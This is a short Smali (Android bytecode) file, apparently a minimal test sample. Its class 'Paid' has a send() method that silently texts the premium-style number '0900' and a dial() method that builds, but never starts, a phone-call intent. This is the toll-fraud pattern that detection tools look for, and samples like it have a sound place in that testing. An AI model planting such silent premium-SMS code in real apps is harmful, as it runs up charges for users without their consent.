.class public Lorg/example/app/Paid;
.super Ljava/lang/Object;
.source "Paid.java"

.method static send()V
    .registers 6
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v0
    const-string v1, "0900"
    const/4 v2, 0
    move-object v3, v1
    const/4 v4, 0
    const/4 v5, 0
    .line 5
    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    return-void
.end method

.method static dial()V
    .registers 2
    new-instance v0, Landroid/content/Intent;
    const-string v1, "android.intent.action.CALL"
    .line 9
    invoke-direct {v0, v1}, Landroid/content/Intent;-><init>(Ljava/lang/String;)V
    return-void
.end method
